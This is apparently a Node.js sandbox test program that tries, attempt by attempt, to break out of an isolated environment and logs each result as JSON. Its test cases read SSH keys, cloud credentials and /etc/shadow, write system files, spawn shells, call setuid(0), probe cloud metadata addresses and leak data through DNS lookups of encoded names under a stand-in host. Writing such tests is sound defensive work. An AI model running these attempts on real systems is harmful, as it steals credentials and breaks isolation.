// A hostile program for TestHostile: what hostile.py does, as far as node can do it without native code. The output is
// the same: one line of JSON for each attempt.
'use strict'
const fs = require('fs'), os = require('os'), net = require('net'), dgram = require('dgram'), dns = require('dns')
const path = require('path'), child = require('child_process'), { Worker } = require('worker_threads')

const world = JSON.parse(process.argv[2])
const { machine, port, allowed, declared } = world
const secret = machine + '/secret', temp = process.env.TMPDIR || '/tmp'
const attempts = []
const add = (name, f, more = {}) => attempts.push({ name, f, given: more.given || '', control: !!more.control })
const proven = { control: true }, program = { given: 'shell', control: true }

const read = file => {
  const fd = fs.openSync(file, 'r')
  try { if (fs.readSync(fd, Buffer.alloc(64)) === 0) throw new Error('empty') } finally { fs.closeSync(fd) }
}
const write = file => fs.writeFileSync(file, 'x')

for (const file of ['secret', 'home/.ssh/id_ed25519', 'home/.ssh/config', 'home/.aws/credentials', 'home/.config/gcloud/credentials.db',
  'home/.azure/accessTokens.json', 'home/.kube/config', 'home/.docker/config.json', 'home/.netrc', 'home/.npmrc', 'home/.pgpass',
  'home/.bash_history', 'home/.gnupg/secring.gpg', 'parent/ambit/keys/root', 'parent/ambit/vault.age', 'parent/ambit/store.db',
  'parent/ambit/servers/other/alias/token', 'tmp/ambit.bundle/main.py', 'tmp/ambit.memory/memory.jsonl', 'serve.log'])
  add('read ' + file, () => read(machine + '/' + file), proven)
for (const file of ['/etc/shadow', '/root/.ssh/id_rsa', '/root/.pgpass', '/root/.bash_history', '/etc/sudoers', '/var/lib/dpkg/status',
  '/proc/1/environ', '/proc/1/mem', '/proc/1/root/etc/shadow', '/proc/kcore', '/sys/kernel/vmcoreinfo', '/sys/fs/cgroup/cgroup.procs',
  '/dev/mem', '/dev/sda', '/dev/vda', '/dev/tty', '/dev/console', '/dev/kmsg', '/dev/pts/0', '/dev/ptmx', '/run/docker.sock',
  '/run/dbus/system_bus_socket', '/canary'])
  add('read ' + file, () => read(file))
add('environment of the gateway', () => read(`/proc/${world.pid}/environ`), proven)
add('files of the gateway', () => fs.readdirSync(`/proc/${world.pid}/fd`), proven)
add('list other homes', () => { if (fs.readdirSync('/home').length + fs.readdirSync('/root').length === 0) throw new Error('empty') })
add('see processes of the machine', () => {
  if (fs.readdirSync('/proc').filter(n => /^\d+$/.test(n)).length < 6) throw new Error('only its own')
}, proven)

for (const file of ['/x', '/usr/x', '/usr/bin/x', '/usr/lib/x', '/etc/x', '/etc/passwd', '/etc/resolv.conf', '/etc/hosts', '/root/x', '/home/x',
  '/var/x', '/opt/x', '/srv/x', '/dev/x', '/proc/sys/kernel/hostname', '/proc/sys/kernel/core_pattern', '/lib/x', '/bin/x', '/sys/x',
  '/boot/x', '/mnt/x', '/sys/fs/cgroup/cgroup.kill', '/hostile.cjs'])
  add('write ' + file, () => write(file))
for (const file of ['secret', 'new', 'tmp/ambit.bundle/main.py', 'parent/ambit/keys/root', 'home/.ssh/authorized_keys', 'home/.bashrc'])
  add('write ' + file, () => write(machine + '/' + file), proven)
add('write to a declared folder', () => write(declared + '/new'), { given: 'write', control: true })
add('read a declared file', () => read(declared + '/file'), { given: 'write', control: true })
add('write to the read-only file of a declared folder', () => write(declared + '/manifest.json'))
add('replace the read-only file of a declared folder', () => fs.renameSync(declared + '/file', declared + '/manifest.json'))
add('read a hidden folder of a declared folder', () => read(declared + '/hidden/key'))
add('rename a parent of a hidden folder', () => fs.renameSync(declared + '/hidden', declared + '/shown'))
add('rename a system folder', () => fs.renameSync('/usr', '/usr2'))
add('rename its home', () => fs.renameSync('/scratch/home', '/scratch/home2'))
add('rename the parent of the home of ambit', () => {
  fs.renameSync(machine + '/parent', machine + '/decoy')
  fs.renameSync(machine + '/decoy', machine + '/parent')
}, proven)
add('link to the secret', () => fs.linkSync(secret, world.control ? machine + '/link' : '/tmp/link'), proven)
add('symlink to the secret', () => {
  const link = path.join(temp, 'symlink-' + process.pid)
  fs.symlinkSync(secret, link)
  try { read(link) } finally { fs.unlinkSync(link) }
}, proven)
add('second mount of the machine', () => {
  for (const line of fs.readFileSync('/proc/self/mountinfo', 'utf8').trim().split('\n'))
    for (const file of [secret, '/etc/shadow']) if (fs.existsSync(line.split(' ')[4] + file)) return
  throw new Error('none')
})

const runs = (name, file, args, more = program) => add(name, () => child.execFileSync(file, args, { stdio: 'ignore' }), more)
const loader = fs.existsSync('/lib64/ld-linux-x86-64.so.2') ? '/lib64/ld-linux-x86-64.so.2' : '/lib/ld-linux-aarch64.so.1'
runs('start a shell', '/bin/sh', ['-c', 'true'])
runs('start true', 'true', [])
runs('start itself', '/proc/self/exe', ['-e', '0'])
runs('start node again', process.execPath, ['-e', '0'])
runs('start by the loader', loader, ['/bin/sh', '-c', 'true'])
runs('start the loader with itself', loader, [process.execPath, '-e', '0'])
runs('start mount', 'mount', [])
runs('start sudo', 'sudo', ['-n', 'true'], {})
runs('start unshare', 'unshare', ['-Ur', 'true'], {})
runs('start a mount namespace', 'unshare', ['-Urm', 'mount', '-t', 'tmpfs', 'x', '/tmp'], {})
add('start by a shell command', () => child.execSync('true'), program)
add('fork', () => new Promise((done, failed) => {
  child.fork('-e', [], { execArgv: ['-e', '0'], stdio: 'ignore' }).on('exit', done).on('error', failed)
}), program)
add('start from a worker', () => new Promise((done, failed) => {
  new Worker(`require('child_process').execFileSync('/bin/sh', ['-c', 'true'])`, { eval: true }).on('exit', code => code ? failed(new Error('failed')) : done()).on('error', failed)
}), program)
add('start a written file', () => {
  const copy = path.join(temp, 'prog-' + process.pid)
  fs.writeFileSync(copy, '#!' + process.execPath + '\n', { mode: 0o755 })
  try { child.execFileSync(copy, { stdio: 'ignore' }) } finally { fs.unlinkSync(copy) }
}, program)
add('load written code', () => {
  const copy = path.join(temp, 'code-' + process.pid + '.node')
  const dir = ['/usr/lib/x86_64-linux-gnu', '/usr/lib/aarch64-linux-gnu', '/usr/lib64', '/usr/lib'].find(d => fs.existsSync(d + '/libz.so.1'))
  fs.copyFileSync(dir + '/libz.so.1', copy)
  // The file is a library but no add-on of node: node refuses it after the kernel has mapped it.
  try { process.dlopen({ exports: {} }, copy) } catch (e) { if (!/Module did not self-register/.test(e.message)) throw e } finally { fs.unlinkSync(copy) }
}, program)
add('find another program', () => {
  if (!['/bin/sh', '/usr/bin/env', '/bin/true', '/usr/bin/git', '/usr/bin/npm'].some(f => fs.existsSync(f))) throw new Error('none')
}, program)
add('become root', () => process.setuid(0))
add('signal outside', () => process.kill(world.pid, 0), proven)
add('terminal', () => new (require('tty').ReadStream)(fs.openSync('/dev/tty', 'r')))

const within = (s, done, failed, wait = 5000) => {
  const timer = setTimeout(() => { s.destroy ? s.destroy() : s.close(); failed(new Error('no greeting')) }, wait)
  return { done: v => { clearTimeout(timer); s.destroy ? s.destroy() : s.close(); done(v) }, failed: e => { clearTimeout(timer); failed(e) } }
}
const connect = to => new Promise((done, failed) => {
  const s = net.connect(to), end = within(s, done, failed)
  s.on('data', d => String(d).startsWith('canary') ? end.done() : end.failed(new Error('no greeting')))
  s.on('error', end.failed).on('end', () => end.failed(new Error('closed')))
})
const connects = (name, host, at, more) => add(name, () => connect({ host, port: at }), more)
connects('connect to loopback', '127.0.0.1', port, proven)
connects('connect to mapped loopback', '::ffff:127.0.0.1', port, proven)
connects('connect to 0.0.0.0', '0.0.0.0', port, proven)
connects('connect to an allowed host', allowed, 80, { given: 'network' })
connects('connect to another port of an allowed host', allowed, port)
connects('connect to a rebinding name', 'rebind.test', port)
for (const [name, host, at] of [['metadata', '169.254.169.254', 80], ["Azure's metadata", '168.63.129.16', 80], ["Alibaba's metadata", '100.100.100.200', 80],
  ['a private address', '10.0.0.1', 80], ['another private address', '192.168.1.1', 80], ['the gateway', '172.17.0.1', 80], ['a public address', '8.8.8.8', 53],
  ['an undeclared name', 'undeclared.test', port], ['metadata by name', 'metadata.google.internal', 80], ['a made-up address', '11.0.200.200', 80],
  ['a subdomain of an allowed host', 'data.' + allowed, 80], ['mapped metadata', '::ffff:169.254.169.254', 80], ['IPv6 metadata', 'fd00:ec2::254', 80]])
  connects('connect to ' + name, host, at)
add('reach an abstract socket', () => connect({ path: '\0' + world.abstract })) // node before 21 has no abstract sockets
add('reach a declared socket', () => connect({ path: world.declared + '/socket' }), proven)
add('reach a socket file', () => connect({ path: machine + '/socket' }), proven)
add('fetch an undeclared name', () => fetch('http://undeclared.test:' + port))
add('fetch loopback', () => fetch('http://127.0.0.1:' + port))
add('send data by names', async () => { for (let i = 0; i < 20; i++) await connect({ host: `c2VjcmV0${i}.undeclared.test`, port: 80 }) })
add('ask another resolver', () => {
  const r = new dns.promises.Resolver({ timeout: 1000, tries: 1 })
  r.setServers(['8.8.8.8'])
  return r.resolve4('c2VjcmV0.undeclared.test')
})
add('ask for text records', () => new dns.promises.Resolver({ timeout: 1000, tries: 1 }).resolveTxt('c2VjcmV0.undeclared.test'))
add('udp to loopback', () => new Promise((done, failed) => {
  const s = dgram.createSocket('udp4'), end = within({ close: () => s.close() }, done, failed, world.control ? 5000 : 500)
  s.on('message', () => end.done()).on('error', end.failed).send('x', world.udp, '127.0.0.1')
}), proven)
add('connect from a worker', () => new Promise((done, failed) => {
  new Worker(`require('net').connect(${port}, '127.0.0.1').on('data', () => process.exit(0)).on('error', () => process.exit(1))`, { eval: true })
    .on('exit', code => code ? failed(new Error('refused')) : done())
}), proven)

;(async () => {
  for (const { name, f, given, control } of attempts) {
    if (world.control && !control) continue
    let through = true, detail = ''
    try { detail = await f() } catch (e) { through = false; detail = e.message }
    fs.writeSync(1, JSON.stringify({ name, through, detail: String(detail).slice(0, 100), given }) + '\n')
  }
  process.exit(0)
})()
